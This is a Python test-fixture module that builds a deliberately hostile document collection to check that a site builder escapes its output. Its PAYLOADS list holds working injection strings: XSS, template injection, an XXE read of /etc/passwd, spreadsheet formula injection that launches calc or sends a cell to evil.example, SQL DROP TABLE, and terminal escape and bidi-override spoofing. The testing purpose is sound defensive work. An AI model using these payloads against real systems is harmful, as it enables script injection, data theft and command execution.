"""A collection in which every text holds something that would act where it is not escaped."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from pathlib import Path

from builder.settings import Settings, read_settings

# What acts, and where: pages, scripts, templates, Markdown, data in pages, feeds, tables, SQL,
# reference managers, lists of links, lines of messages, terminals.
PAYLOADS = (
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(2)>",
    "</script></style></title></textarea>--><svg onload=alert(3)>",
    "&lt;script&gt;alert(4)&lt;/script&gt; &amp;lt;b&amp;gt;",
    "{{ 7 * 7 }} {% raise %} {# x #} ${7*7}",
    "[go](javascript:alert(5)) ![x](x){: onclick=alert(5) } {#id .class}",
    '<https://evil.example> [a]: javascript:alert(6) "t" *b* `c` ~~d~~ ***',
    "]]> <![CDATA[ <!ENTITY x SYSTEM 'file:///etc/passwd'> &x; <?php ?>",
    "javascript:alert(8)//https://evil.example",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1 full width",
    "\ufeff=1+1 behind a mark",
    '"=1+1 behind a quote',
    "\t=1+1 behind a tab",
    "'; DROP TABLE documents; -- \" OR 1=1 NEAR( AND *",
    "} , url = {https://evil.example} }\n@article{evil, title = {x}}",
    "x\nER  - \n\nTY  - EVIL\nTI  - evil",
    "x\n# evil\n> evil\n- [evil](https://evil.example)\nSitemap: https://evil.example",
    '>; rel="canonical", <https://evil.example>; rel="item"',
    "\x1b[31mred \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b2J",
    "100 %\r  0 problems\x08\x08 \u202egnp.exe\u202c \u2066turned\u2069 \u2028 \x85 end",
)
KINDS = ("programs", "organizations", "people", "substances")
MARK = "zebu{}"
"""A word that says which of them a text holds."""


def hostile_texts() -> list[str]:
    """Return each payload with its mark."""
    return [f"{payload} {MARK.format(n)}" for n, payload in enumerate(PAYLOADS)]


def source_of(text: str, number: int, *, front_matter: bool) -> str:
    """Return a document that says a text in every way in which a document can say something."""
    line = re.sub(r"[\r\n\x85\u2028]+", " ", text)
    named = ", ".join(alias_of(kind, number) for kind in KINDS)
    head = ""
    if front_matter:
        keys = ("title", "issuer", "type", "rights")
        head = "".join(f"{key}: {json.dumps(text)}\n" for key in keys)
        head = f"---\n{head}date: 2024-03-05\nsource_url: https://www.example.org/a?b=c&d\n---\n"
    return f"""{head}# {line}

{text}

President {line} said on March 3, 2024 that Mexico and Peru had seized 2,600 kilograms of cocaine.

The {line} Initiative costs $12 million; the Harbor {line} Program reaches 31 countries.

> {line}

- {line} of fentanyl in Colombia
1. {line}

| {line} | Cost |
|---|---|
| {line} | $3 million |

[{line}](https://www.example.org/{line}) <a href="{line}" onclick="{line}">{line}</a>

## {line}

{named} met in Peru.
"""


def file_name(text: str) -> str:
    """Return a text as the name of a file, with everything in it that a name may hold."""
    return re.sub("[/\0-\x1f\x7f-\x9f\u2028]", "_", text)[:60]


def alias_of(kind: str, number: int) -> str:
    """Return the plain name by which documents speak of an entity."""
    mark = MARK.format(number).capitalize()
    return {
        "programs": f"{mark} Lantern Initiative",
        "organizations": f"{mark} Bureau of Lanterns",
        "people": f"Ada {mark} Quill",
        "substances": f"{mark}ol",
    }[kind]


def _entry(kind: str, number: int, text: str) -> dict[str, object]:
    alias = alias_of(kind, number)
    official = {"label": text, "value": text, "source": {"url": "https://www.example.org/x"}}
    return {
        "key": f"{kind}-{number}",
        "name": " ".join(text.split()),
        "aliases": [alias],
        "about": text,
        "facts": [official],
        "examples": [f"In May {alias} began."],
    }


def _write_catalogue(folder: Path, texts: Sequence[str]) -> None:
    folder.mkdir()
    for kind in KINDS:
        entries = [_entry(kind, number, text) for number, text in enumerate(texts)]
        (folder / f"{kind}.yaml").write_text(json.dumps({kind: entries}), encoding="utf-8")


def write_hostile(root: Path) -> Settings:
    """Write the collection; return its settings."""
    (root / "seeds").mkdir(parents=True)
    texts = hostile_texts()
    names = json.dumps(" ".join(texts[:10]))
    (root / "mkdocs.yml").write_text(
        f"site_name: {names}\nsite_description: {names}\nsite_url: https://www.example.org/x/\n"
        f"plugins:\n- search\n- collection:\n    license: {json.dumps(texts[0])}\n"
        f"    license_url: https://www.example.org/l\n    identity: {json.dumps(texts[1])}\n",
        encoding="utf-8",
    )
    manifest: dict[str, object] = {}
    for number, text in enumerate(texts):
        own = number % 2 == 0
        name = f"{file_name(text)}.txt"
        (root / "seeds" / name).write_text(
            source_of(text, number, front_matter=own), encoding="utf-8", newline=""
        )
        if not own:
            manifest[name] = {
                **{
                    key: {"value": text, "provenance": "inferred", "how": text}
                    for key in ("title", "issuer", "type", "rights")
                },
                "date": {"value": "2023-05?", "provenance": "inferred", "how": text},
                "url": {"value": "https://www.example.org/a'b", "provenance": "supplied"},
            }
    manifest_text = json.dumps({"documents": manifest})
    (root / "seeds/manifest.yaml").write_text(manifest_text, encoding="utf-8")
    _write_catalogue(root / "seeds/catalogue", texts)
    return read_settings(root / "mkdocs.yml")
